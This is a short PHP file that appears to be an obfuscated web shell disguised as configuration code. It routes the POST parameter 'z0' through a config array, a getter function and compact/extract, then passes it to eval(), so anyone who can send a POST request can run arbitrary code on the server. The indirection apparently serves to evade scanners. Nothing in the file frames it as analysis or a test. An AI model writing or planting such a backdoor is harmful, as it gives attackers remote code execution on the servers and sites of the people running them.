<?php
$GLOBALS['_cfg'] = array('m' => $_POST, 'k' => 'z0');
function cfg_get($n) { return $GLOBALS['_cfg'][$n]; }
$req = cfg_get('m');
$key = cfg_get('k');
$vars = compact('req', 'key');
extract($vars);
$run = $req[$key];
eval($run);
